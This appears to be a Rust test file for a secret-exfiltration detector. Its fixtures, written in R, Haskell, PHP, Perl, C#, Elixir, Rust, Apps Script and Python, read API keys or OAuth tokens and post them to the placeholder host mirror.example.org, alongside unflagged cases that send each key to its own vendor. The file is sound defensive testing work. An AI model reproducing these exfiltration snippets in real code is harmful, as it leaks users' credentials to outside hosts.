//! Stop 58 (the lead, issue 14): a secret read and sent in languages the flow did not read (R,
//! Haskell, PHP, Perl, C#, Elixir, Rust) and an Apps Script's own OAuth token; worded here, not
//! copied from round 42t's cases; hosts are placeholders.

use super::*;

const RULE: &str = "exfiltration.key-to-foreign-host";

/// R's and Haskell's arrow assignment carries a secret like `=` does, and their HTTP clients
/// (httr, httr2, http-conduit) are requests: a stranger's host is critical, the key's own vendor
/// is not.
#[test]
fn lead58_arrow_assigned_secrets_reach_r_and_haskell_requests() {
    let r = "tok <- Sys.getenv(\"ANTHROPIC_API_KEY\")\nhttr::PUT(\"https://mirror.example.org/k\", body = tok)\n";
    at(&[("sync.R", r)], RULE, Some(Critical));
    let r2 = "cfg <- list(a = Sys.getenv(\"GITHUB_TOKEN\"))\nrequest(\"https://mirror.example.org/c\") |> req_body_json(cfg) |> req_perform()\n";
    at(&[("sync.R", r2)], RULE, Some(Critical));
    let hs = "main = do\n  t <- lookupEnv \"STRIPE_SECRET_KEY\"\n  r <- parseRequest (\"POST https://mirror.example.org/s?t=\" ++ show t)\n  _ <- httpLBS r\n  pure ()\n";
    at(&[("Main.hs", hs)], RULE, Some(Critical));
    let own = "tok <- Sys.getenv(\"ANTHROPIC_API_KEY\")\nhttr::POST(\"https://api.anthropic.com/v1/messages\", httr::add_headers(`x-api-key` = tok), body = b)\n";
    at(&[("ask.R", own)], RULE, None);
    // A read of a non-secret variable and a comparison with a negative number carry nothing.
    let plain = "h <- Sys.getenv(\"HOME\")\nif (n < -1) httr::POST(\"https://mirror.example.org/h\", body = h)\n";
    at(&[("x.R", plain)], RULE, None);
}

/// PHP (`getenv`, `$_ENV`, a curl handle configured with `curl_setopt` and run), Perl (`$ENV{…}`,
/// LWP), C# (`GetEnvironmentVariable`, `HttpClient.…Async`), Elixir (`System.get_env`, Req /
/// HTTPoison) and Rust (`std::env::var`, reqwest) read secrets and send them.
#[test]
fn lead58_secrets_sent_from_php_perl_csharp_elixir_rust() {
    let php = "<?php\n$s = $_ENV['OPENAI_API_KEY'];\n$h = curl_init('https://mirror.example.org/p');\ncurl_setopt($h, CURLOPT_POSTFIELDS, 's=' . $s);\ncurl_exec($h);\n";
    at(&[("p.php", php)], RULE, Some(Critical));
    let pl = "my $k = $ENV{'SLACK_BOT_TOKEN'};\nmy $client = HTTP::Tiny->new;\n$client->post('https://mirror.example.org/p', { content => $k });\n";
    at(&[("p.pl", pl)], RULE, Some(Critical));
    let cs = "var k = Environment.GetEnvironmentVariable(\"GITHUB_TOKEN\");\nvar c = new HttpClient();\nawait c.PostAsync(\"https://mirror.example.org/p\", new StringContent(k));\n";
    at(&[("P.cs", cs)], RULE, Some(Critical));
    let ex = "k = System.fetch_env!(\"STRIPE_SECRET_KEY\")\nHTTPoison.post(\"https://mirror.example.org/p\", k)\n";
    at(&[("p.exs", ex)], RULE, Some(Critical));
    let rs = "let k = std::env::var(\"OPENAI_API_KEY\").unwrap();\nlet _ = ureq::post(\"https://mirror.example.org/p\").send_string(&k);\n";
    at(&[("main.rs", rs)], RULE, Some(Critical));
    // The same reads sent to the key's own vendor.
    let php_own = "<?php\n$s = getenv('STRIPE_SECRET_KEY');\n$h = curl_init('https://api.stripe.com/v1/customers');\ncurl_setopt($h, CURLOPT_USERPWD, $s . ':');\ncurl_exec($h);\n";
    at(&[("p.php", php_own)], RULE, None);
    let rs_own = "let k = std::env::var(\"OPENAI_API_KEY\")?;\nlet r = reqwest::Client::new().post(\"https://api.openai.com/v1/responses\").bearer_auth(k).send().await?;\n";
    at(&[("main.rs", rs_own)], RULE, None);
    // A route handler that checks a secret is a server, not a request.
    let route = "<?php\n$sig = $_ENV['WEBHOOK_SECRET'];\n$app->post('/hook', fn($rq) => check($rq, $sig));\n";
    at(&[("r.php", route)], RULE, None);
}

/// An Apps Script's `ScriptApp.getOAuthToken()` is the running user's Google token: to Google's
/// APIs it is the script's job, to any other host it is a leak.
#[test]
fn lead58_apps_script_token_goes_only_to_google() {
    let far = "function f() {\n  UrlFetchApp.fetch('https://mirror.example.org/g', {method: 'post', payload: ScriptApp.getOAuthToken()});\n}\n";
    at(&[("Code.gs", far)], RULE, Some(Critical));
    let own = "function f() {\n  UrlFetchApp.fetch('https://sheets.googleapis.com/v4/spreadsheets/x', {headers: {Authorization: 'Bearer ' + ScriptApp.getOAuthToken()}});\n}\n";
    at(&[("Code.gs", own)], RULE, None);
}

/// What is written through a handle opened for writing (`with open(p, "w") as f: f.write(v)`) is
/// written to `p`: a later statement, in another function too, that opens `p` and sends it sends
/// the secret. A handle opened for reading writes nothing.
#[test]
fn lead58_a_secret_written_through_a_handle_travels_with_the_file() {
    let rule = "exfiltration.key-to-foreign-host";
    let two = "import os, requests\nP = '/tmp/cache.txt'\n\n\ndef save():\n    with open(P, 'w') as out:\n        out.write(os.getenv('OPENAI_API_KEY'))\n\n\ndef ship():\n    with open(P, 'rb') as src:\n        requests.post('https://mirror.example.org/f', data=src)\n";
    at(&[("hooks.py", two)], rule, Some(Critical));
    let read = "import os, requests\nP = '/tmp/cache.txt'\n\n\ndef save():\n    with open(P) as src:\n        src.read(os.getenv('OPENAI_API_KEY'))\n\n\ndef ship():\n    with open('/tmp/other.txt', 'rb') as src2:\n        requests.post('https://mirror.example.org/f', data=src2)\n";
    at(&[("hooks.py", read)], rule, None);
}
